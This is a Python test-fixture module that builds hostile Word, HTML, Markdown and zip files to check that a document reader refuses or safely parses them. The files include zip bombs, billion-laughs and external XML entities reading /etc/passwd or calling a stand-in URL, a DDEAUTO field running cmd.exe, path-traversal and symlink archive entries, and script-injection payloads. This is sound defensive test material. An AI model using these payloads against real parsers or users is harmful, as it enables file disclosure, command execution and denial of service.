"""Files that were made to harm whoever reads them, each built by a few lines and kept in `FILES` by its name.

A file is refused with a sentence, `refused`, or read, and then its words hold what it `says`; both may be named.
"""

import io
import random
import struct
import zipfile
from dataclasses import dataclass

from tests.drafts.samples import W

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MEGABYTE = 1024**2
# Whom no reader may ever ask; the tests put a listening port here.
ELSEWHERE = "http://127.0.0.1:9/asked"

BOMB = "unpacks to far more than a draft can hold"
DAMAGED = "damaged"
NESTED = "nested too deeply"
ENTITIES = "declares XML entities"
LOCKED = "protected by a password"
MACROS = "holds macros"
ENDLESS = "One paragraph is longer than"
WORDLESS = "There are no words in this file"


@dataclass
class Hostile:
    """A file, and either the sentence that refuses it or the words that are read from it."""

    name: str
    suffix: str
    content: bytes
    refused: str = ""
    says: str = ""


FILES = {}


def hostile(suffix, *, refused="", says=""):
    """Register a function that makes the content of a hostile file; its name says what is wrong with it."""

    def register(build):
        FILES[build.__name__] = (suffix, build, refused, says)
        return build

    return register


def build(name):
    suffix, make, refused, says = FILES[name]
    content = make()
    return Hostile(name, suffix, content.encode() if isinstance(content, str) else content, refused, says)


# ---- Word files


def paragraph(text, properties=""):
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body, declaration=""):
    return f'{declaration}<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'


def packed(parts, method=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as file:
        for name, content in parts:
            file.writestr(name, content)
    return stream.getvalue()


def word(body, *others, declaration=""):
    return packed([("[Content_Types].xml", TYPES), ("word/document.xml", document(body, declaration)), *others])


def noise(count, seed=1):
    """Words that do not pack well, so that a file looks honest."""
    chance = random.Random(seed)
    return " ".join(f"{chance.getrandbits(40):x}" for _ in range(count))


def relations(*targets, mode="External"):
    entries = "".join(
        f'<Relationship Id="r{place}" Type="{OFFICE}/{sort}" Target="{target}" TargetMode="{mode}"/>'
        for place, (sort, target) in enumerate(targets)
    )
    return ("word/_rels/document.xml.rels", f'<Relationships xmlns="{RELATIONS}">{entries}</Relationships>')


def central_directory_of(content):
    return content.index(b"PK\x01\x02")


# ---- bombs


@hostile(".docx", refused=BOMB)
def a_hundred_megabytes_of_spaces():
    return word(" " * (100 * MEGABYTE))


@hostile(".docx", refused=BOMB)
def many_parts_that_are_small_alone():
    return word(paragraph("x"), *((f"word/media/{place}.png", b"\0" * (900 * 1024)) for place in range(200)))


@hostile(".docx", refused=BOMB)
def more_parts_than_a_document_has():
    return word(paragraph("x"), *((f"word/{place}", "") for place in range(5000)))


@hostile(".docx", says="outside the bomb")
def archives_inside_archives():
    inner = packed([("0", b"\0" * (50 * MEGABYTE))])
    for depth in range(5):
        inner = packed([(f"{depth}-{copy}", inner) for copy in range(10)])
    return word(paragraph("outside the bomb"), ("word/embeddings/bomb.zip", inner))


@hostile(".docx", refused=BOMB)
def two_gigabytes_declared():
    content = bytearray(word(paragraph("x")))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 2**31)
    return bytes(content)


@hostile(".docx", refused=DAMAGED)
def a_hundred_bytes_declared_for_many():
    content = bytearray(word(paragraph(noise(20_000))))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(content)


@hostile(".docx", refused=f"{BOMB}|{DAMAGED}")
def entries_that_overlap():
    """One packed megabyte, which a directory of two thousand entries names again and again."""
    content = packed([("word/document.xml", b" " * MEGABYTE)])
    start = central_directory_of(content)
    end = content.rindex(b"PK\x05\x06")
    entry = content[start:end]
    entries = b"".join(entry.replace(b"word/document.xml", b"word/documen%05d" % place) for place in range(2000))
    closing = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2000, 2000, len(entries), start, 0)
    return content[:start] + entries + closing


@hostile(".docx", refused=f"{DAMAGED}|no Word document")
def an_archive_that_holds_itself():
    """The entry's data are the archive's own beginning: what unpacks it anew never ends."""
    whole = bytearray(packed([("word/document.xml", b"x" * 200)], zipfile.ZIP_STORED))
    place = central_directory_of(whole)
    whole[place + 42 : place + 46] = struct.pack("<I", place)
    return bytes(whole)


@hostile(".docx", refused=DAMAGED)
def packed_in_a_way_that_takes_memory_first():
    return packed([("[Content_Types].xml", TYPES), ("word/document.xml", document(paragraph("x")))], zipfile.ZIP_LZMA)


# ---- entities


LAUGHS = "".join(f'<!ENTITY l{place} "{f"&l{place - 1};" * 10}">' for place in range(1, 10))
BILLION = f'<!DOCTYPE w:document [<!ENTITY l0 "ha">{LAUGHS}]>'


@hostile(".docx", refused=ENTITIES)
def a_billion_laughs():
    return word(paragraph("&l9;"), declaration=BILLION)


@hostile(".docx", refused=ENTITIES)
def one_long_entity_many_times():
    return word(paragraph("&a;" * 100_000), declaration=f'<!DOCTYPE w:document [<!ENTITY a "{"a" * 100_000}">]>')


@hostile(".docx", refused=ENTITIES)
def an_entity_of_a_file_on_the_machine():
    return word(paragraph("&f;"), declaration='<!DOCTYPE w:document [<!ENTITY f SYSTEM "file:///etc/passwd">]>')


@hostile(".docx", refused=ENTITIES)
def an_entity_from_elsewhere():
    return word(paragraph("&f;"), declaration=f'<!DOCTYPE w:document [<!ENTITY f SYSTEM "{ELSEWHERE}">]>')


@hostile(".docx", refused=ENTITIES)
def a_parameter_entity_from_elsewhere():
    return word(paragraph("x"), declaration=f'<!DOCTYPE w:document [<!ENTITY % p SYSTEM "{ELSEWHERE}"> %p;]>')


@hostile(".docx", refused=ENTITIES)
def a_document_type_from_elsewhere():
    return word(paragraph("x"), declaration=f'<!DOCTYPE w:document SYSTEM "{ELSEWHERE}">')


def in_encoding(encoding, name, declaration=BILLION):
    xml = f'<?xml version="1.0" encoding="{name}"?>' + document(paragraph("&l9;"), declaration)
    return packed([("[Content_Types].xml", TYPES), ("word/document.xml", xml.encode(encoding))])


@hostile(".docx", refused=f"{ENTITIES}|{DAMAGED}")
def laughs_in_utf_16():
    return in_encoding("utf-16", "UTF-16")


@hostile(".docx", refused=f"{ENTITIES}|{DAMAGED}")
def laughs_in_utf_16_without_a_mark():
    return in_encoding("utf-16-be", "UTF-16BE")


@hostile(".docx", refused=f"{ENTITIES}|{DAMAGED}")
def laughs_in_utf_32():
    return in_encoding("utf-32-le", "UTF-32LE")


@hostile(".docx", refused=f"{ENTITIES}|{DAMAGED}")
def laughs_in_ebcdic():
    return in_encoding("cp037", "IBM037")


@hostile(".docx", refused=f"{ENTITIES}|{DAMAGED}")
def laughs_in_an_attribute_in_utf_16():
    xml = document('<w:p w:rsidR="&l9;"><w:r><w:t>x</w:t></w:r></w:p>', BILLION)
    return packed([("word/document.xml", ('<?xml version="1.0" encoding="UTF-16"?>' + xml).encode("utf-16"))])


@hostile(".docx", refused=ENTITIES)
def entities_in_the_styles():
    styles = f'<!DOCTYPE s [<!ENTITY a SYSTEM "{ELSEWHERE}">]><w:styles xmlns:w="{W}">&a;</w:styles>'
    return word(paragraph("x"), ("word/styles.xml", styles))


# ---- locked, broken, of another kind


@hostile(".docx", refused=LOCKED)
def an_encrypted_office_file():
    return OLE + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 4096


@hostile(".docx", refused=LOCKED)
def an_encrypted_entry():
    content = bytearray(word(paragraph("x")))
    content[content.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@hostile(".docx", refused=f"{DAMAGED}|no Word document")
def an_archive_that_was_cut_off():
    content = word(paragraph(noise(5000)))
    return content[: len(content) // 2]


@hostile(".docx", refused=DAMAGED)
def xml_that_was_cut_off():
    return packed([("word/document.xml", document(paragraph("x"))[:-30])])


@hostile(".docx", refused=DAMAGED)
def a_part_that_is_no_xml():
    return packed([("word/document.xml", bytes(range(256)) * 20)])


@hostile(".docx", refused="no Word document")
def an_archive_of_something_else():
    return packed([("xl/workbook.xml", "<workbook/>")])


@hostile(".docx", refused=DAMAGED)
def a_picture_named_docx():
    return b"\x89PNG\r\n\x1a\n" + bytes(5000)


@hostile(".docx", refused=DAMAGED)
def a_page_named_docx():
    return "<!DOCTYPE html><html><body><p>x</p></body></html>"


@hostile(".docx", refused=DAMAGED)
def nothing_named_docx():
    return b""


@hostile(".md", refused="not a text file")
def a_word_file_named_md():
    return word(paragraph("x"))


@hostile(".html", refused="not a text file")
def a_picture_named_html():
    return b"\x89PNG\r\n\x1a\n" + bytes(5000)


# ---- macros, and what leads elsewhere


@hostile(".docx", refused=MACROS)
def macros_under_another_ending():
    return word(paragraph("x"), ("word/vbaProject.bin", OLE))


@hostile(".docx", refused=MACROS)
def macros_by_the_declared_type():
    types = TYPES.replace(
        "/>",
        '><Override PartName="/word/document.xml"'
        ' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    )
    return packed([("[Content_Types].xml", types), ("word/document.xml", document(paragraph("x")))])


@hostile(".docm", refused="may hold macros")
def a_file_with_macros():
    return word(paragraph("x"), ("word/vbaProject.bin", OLE))


DRAWING = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:docPr id="1" name="p" descr="a seal"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="x"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
    "<a:blip {blip}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


@hostile(".docx", says="words beside what leads elsewhere")
def everything_that_leads_elsewhere():
    body = (
        paragraph("words beside what leads elsewhere")
        + DRAWING.format(blip='r:link="r0"')
        + DRAWING.format(blip='r:embed="r0"')
        + '<w:altChunk r:id="r1"/><w:p><w:subDoc r:id="r1"/></w:p>'
        + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="r2" Type="Link"/>'
        + "</w:object></w:r></w:p>"
        + f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "{ELSEWHERE}"'
        + '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        + f'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe {ELSEWHERE}"/></w:p>'
    )
    leading = [("image", ELSEWHERE), ("aFChunk", ELSEWHERE), ("oleObject", ELSEWHERE)]
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="r0"/></w:settings>'
    template = relations(("attachedTemplate", ELSEWHERE))[1]
    others = [("word/settings.xml", settings), ("word/_rels/settings.xml.rels", template)]
    return word(body, relations(*leading), *others)


@hostile(".html", says="words beside what leads elsewhere")
def a_page_that_asks_for_everything():
    return (
        f'<html><head><base href="{ELSEWHERE}"><link rel="stylesheet" href="{ELSEWHERE}"><script src="{ELSEWHERE}">'
        f'</script><meta http-equiv="refresh" content="0;url={ELSEWHERE}"></head><body background="{ELSEWHERE}">'
        f'<p>words beside what leads elsewhere</p><img src="{ELSEWHERE}" srcset="{ELSEWHERE} 2x" alt="x">'
        f'<iframe src="{ELSEWHERE}"></iframe><object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}">'
        f'<video poster="{ELSEWHERE}"></video><p style="background:url({ELSEWHERE})">y</p>'
        f'<svg><image href="{ELSEWHERE}"/><use href="{ELSEWHERE}#a"/></svg>'
    )


@hostile(".html", says="words beside a drawing")
def a_drawing_with_a_script():
    return (
        "<p>words beside a drawing</p><svg onload=alert(1)><script>alert(1)</script><a href='javascript:alert(1)'>"
        "<text>press</text></a><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>"
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=' alt='x'>"
    )


# ---- paths in archives


@hostile(".docx", says="only what has its place")
def paths_out_of_a_word_file():
    names = [
        "../../../tmp/evil",
        "/etc/evil",
        "C:\\evil",
        "word/media/../../../evil.png",
        "word\\media\\evil",
        "~/evil",
    ]
    pictures = relations(*(("image", target) for target in ("../../../etc/passwd", "/etc/passwd")), mode="Internal")
    body = paragraph("only what has its place") + "".join(DRAWING.format(blip=f'r:embed="r{n}"') for n in (0, 1))
    return word(body, pictures, *((name, b"evil") for name in names))


@hostile(".docx", says="only what has its place")
def a_link_of_the_file_system_inside():
    link = zipfile.ZipInfo("word/media/link.png")
    link.external_attr = 0o120777 << 16
    return word(
        paragraph("only what has its place") + DRAWING.format(blip='r:embed="r0"'),
        relations(("image", "media/link.png"), mode="Internal"),
        (link, "/etc/passwd"),
    )


@hostile(".docx", refused=DAMAGED)
def a_document_that_is_there_twice():
    content = word(paragraph("the first"), ("word/document.xmX", document(paragraph("the second"))))
    return content.replace(b"word/document.xmX", b"word/document.xml")


@hostile(".docx", refused=DAMAGED)
def a_name_that_ends_in_its_middle():
    content = word(paragraph("the first"), ("word/document.xml_.png", document(paragraph("the second"))))
    return content.replace(b"word/document.xml_.png", b"word/document.xml\0.png")


@hostile(".zip", refused="lead out of it")
def an_archive_that_leads_out():
    return packed([("a.md", "# A\n\nWords."), ("../../evil.md", "Evil.")])


@hostile(".zip", says="Words stay")
def an_archive_with_a_link():
    link = zipfile.ZipInfo("b.md")
    link.external_attr = 0o120777 << 16
    return packed([("a.md", "# A\n\nWords stay. ![x](b.png)"), (link, "/etc/passwd")])


@hostile(".zip", refused=BOMB)
def an_archive_that_is_a_bomb():
    return packed([("a.md", b" " * (100 * MEGABYTE))])


@hostile(".zip", refused=DAMAGED)
def an_archive_packed_in_a_way_that_takes_memory_first():
    return packed([("a.md", "# A\n\nWords.")], zipfile.ZIP_LZMA)


# ---- too much of everything


@hostile(".docx", refused="more than 20000 paragraphs")
def fifty_thousand_word_paragraphs():
    return word("".join(map(paragraph, noise(50_000).split())))


@hostile(".md", refused="more than 20000 paragraphs")
def fifty_thousand_markdown_paragraphs():
    return "words\n\n" * 50_000


@hostile(".html", refused="more than 20000 paragraphs")
def fifty_thousand_html_paragraphs():
    return "<p>words" * 50_000


def cells(count, across):
    row = "<w:tr>" + f"<w:tc>{paragraph('%s')}</w:tc>" * across + "</w:tr>"
    return (row * (count // across)) % tuple(noise(count).split())


@hostile(".docx", refused="more than 20000 cells")
def a_hundred_thousand_cells():
    return word(f"<w:tbl>{cells(100_000, 10)}</w:tbl>")


@hostile(".docx", refused="more than 20000 cells")
def a_hundred_thousand_cells_in_a_row():
    return word(f"<w:tbl>{cells(100_000, 100_000)}</w:tbl>")


@hostile(".docx", says="</p>")
def ten_thousand_merged_cells_in_a_row():
    row = cells(5000, 5000).replace("<w:tc>", '<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr>')
    return word(f"<w:tbl>{row}{row.replace(' w:val=', ' w:was=')}</w:tbl>")


@hostile(".html", refused="more than 20000 cells")
def a_hundred_thousand_html_cells():
    return "<table>" + ("<tr>" + "<td>a" * 10) * 10_000 + "</table>"


@hostile(".docx", refused=ENDLESS)
def a_word_paragraph_of_five_megabytes():
    return word(paragraph(noise(500_000)))


@hostile(".html", refused=ENDLESS)
def an_html_paragraph_of_five_megabytes():
    return "<p>" + "words &amp; " * 450_000


@hostile(".md", refused=ENDLESS)
def a_markdown_paragraph_of_five_megabytes():
    return "words & " * 600_000


@hostile(".md", refused=ENDLESS)
def one_word_of_a_megabyte():
    return "w" * MEGABYTE


@hostile(".docx", refused=ENDLESS)
def sixty_thousand_changes_of_style():
    runs = "".join(
        f"<w:r><w:rPr><w:b/></w:rPr><w:t>{word}</w:t></w:r><w:r><w:t>b</w:t></w:r>" for word in noise(30_000).split()
    )
    return word(f"<w:p>{runs}</w:p>")


@hostile(".docx", says="a box")
def ten_thousand_text_boxes_in_one_drawing():
    boxes = "".join(f"<w:txbxContent>{paragraph(word)}</w:txbxContent>" for word in noise(5000).split())
    return word(f"<w:p><w:r><w:t>a box</w:t></w:r><w:r><w:pict>{boxes}</w:pict></w:r></w:p>")


@hostile(".html", says="the only paragraph")
def a_title_of_a_megabyte():
    return "<title>" + "w" * MEGABYTE + "</title><p>the only paragraph"


# ---- too deep


def deep(opening, closing, count=10_000):
    return word(opening * count + paragraph("x") + closing * count)


@hostile(".docx", refused=NESTED)
def ten_thousand_tables_deep():
    return deep("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")


@hostile(".docx", says="at the bottom")
def seventy_tables_deep():
    return word("<w:tbl><w:tr><w:tc>" * 70 + paragraph("at the bottom") + "</w:tc></w:tr></w:tbl>" * 70)


@hostile(".docx", refused=NESTED)
def ten_thousand_controls_deep():
    return deep("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>")


@hostile(".docx", refused=NESTED)
def ten_thousand_tags_deep():
    return word("<w:p>" + "<w:smartTag>" * 10_000 + "</w:smartTag>" * 10_000 + "</w:p>")


def _register_deep_html():
    for name, opening in {
        "divs": "<div>", "spans": "<span>", "quotations": "<blockquote>", "html_tables": "<table><tr><td>",
        "html_lists": "<ul><li>", "styles": "<b>", "definitions": "<dl><dd>", "notes": "<sup>", "headings": "<h2>",
        "fonts": "<font>", "languages": "<span lang=ar>x", "sections": "<section>", "drawings": "<svg>",
    }.items():  # fmt: skip

        def make(opening=opening):
            return opening * 10_000 + "words"

        make.__name__ = f"ten_thousand_{name}_deep"
        hostile(".html", refused=NESTED)(make)


_register_deep_html()


@hostile(".md", refused=NESTED)
def ten_thousand_markdown_quotations_deep():
    return ">" * 10_000 + " words"


@hostile(".md", refused=NESTED)
def a_thousand_markdown_lists_deep():
    return "\n".join("  " * level + "- words" for level in range(1000))


# ---- numbers beyond belief


@hostile(".docx", says="counted")
def numbers_that_nothing_counts():
    huge = "9" * 400
    levels = "".join(
        f'<w:lvl w:ilvl="{level}"><w:start w:val="{huge}"/><w:numFmt w:val="lowerLetter"/>'
        f'<w:lvlText w:val="%{huge}%1."/></w:lvl>'
        for level in (0, 8, 999_999, huge)
    )
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum><w:num w:numId="1">'
        f'<w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="-5"><w:startOverride w:val="-{huge}"/></w:lvlOverride>'
        "</w:num></w:numbering>"
    )
    items = "".join(
        paragraph("counted", f'<w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>')
        for level in (999_999, huge, -1, "x", "")
    )
    spans = "".join(
        f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{paragraph("counted")}</w:tc>'
        for span in (1_000_000_000, huge, -1, "x")
    )
    outline = paragraph("counted", f'<w:pPr><w:outlineLvl w:val="{huge}"/></w:pPr>')
    before = f'<w:tbl><w:tr><w:trPr><w:gridBefore w:val="{huge}"/></w:trPr>{spans}</w:tr></w:tbl>'
    return word(items + outline + before, ("word/numbering.xml", numbering))


@hostile(".html", says="counted")
def spans_that_nothing_holds():
    return (
        f"<table><tr><td colspan=1000000000 rowspan=1000000000>counted</td><td colspan={'9' * 5000}>a</td>"
        "<td rowspan=-1>b</td><td colspan=x>c</td></tr></table><table>"
        + "<tr><td rowspan=65534 colspan=1000>counted"
        * 300
        + f"</table><ol start={'9' * 5000}><li value={'9' * 5000}>counted</ol>"
        "<ol start=-999999999 type=i><li>counted</ol><ol start=999999 type=a><li>counted</ol>"
    )


@hostile(".md", says="counted")
def a_list_that_begins_late():
    return "999999999. counted\n\n" + "9" * 30 + ". counted\n"


# ---- characters


@hostile(".md", refused="not a text file")
def characters_of_nothing():
    return "words\0 words"


@hostile(".md", says="word")
def bytes_that_are_no_utf_8():
    return b"words \xff\xfe\xc0\xaf \xed\xa0\x80 words \x80"


@hostile(".html", says="word")
def halves_of_characters():
    return "<p title='&#xd800;'>words &#xd800;&#xdfff; &#0; &#x110000; &#xfffe; \u202e words <img alt='&#xd800;&#0;'>"


@hostile(".docx", says="word")
def characters_that_xml_allows_and_databases_do_not():
    return word(paragraph("words \ufeff\u202e\u2028&#x85;&#x9f;&#xfdd0; words") + paragraph("\U000f0000 word"))


@hostile(".docx", refused=DAMAGED)
def characters_that_xml_does_not_allow():
    return word(paragraph("words &#0; &#xd800;"))


# ---- what makes careless patterns run for ever


REPEATED = {
    ".md": [
        "[", "(", "*", "_", "`", "<", "&", "\t", "\u00a0", "[^", "[a](", "![](", "](", "`a", "~~a", "**a ", "*a_ ",
        "<!--", "<?", "<a ", "</", "&#", '"', "{", "{:", "{#", "{%", "{::", "[a]: ", "]: x\n", "a\n: b\n", "|",
        "|a\n|-\n", "[^a]:b\n", "[^a]\n\n", "---\n", "x\n=\n", "* * *\n", "- [ ] ", "1. ", "> ", "<div>\n", "\\",
        "<http://",
    ],
    ".html": [
        "<", "<!--", "</", "<a ", "&", "&#", "<a href='#x'>", "<a id='x' href='#x'>", "<p id='x'>", "<li id='fn1'>",
        "<sup><a href='#x'>1</a></sup>", "<td>", "<tr>", "<dt>x<dd>", "<br>", "<br><br>x", "<i>x</i>", "<b>x</b>y",
        "<img alt='x'>", "<figure><img alt='x'>", "<![CDATA[", "<?", "<!DOCTYPE", "<select>", "<template>", '"',
        "<span lang='ar'>x</span>", "<caption>", "<label>x", "<p class='footnote'>",
    ],
}  # fmt: skip


def _register_repeated():
    for suffix, beginnings in REPEATED.items():
        for place, beginning in enumerate(beginnings):

            def make(beginning=beginning):
                return "words\n\n" + beginning * (30_000 // len(beginning))

            make.__name__ = f"repeated_in_{suffix[1:]}_{place}_{beginning!a}"
            hostile(suffix, refused=f"{NESTED}|{ENDLESS}|{WORDLESS}|more than", says="words")(make)


_register_repeated()
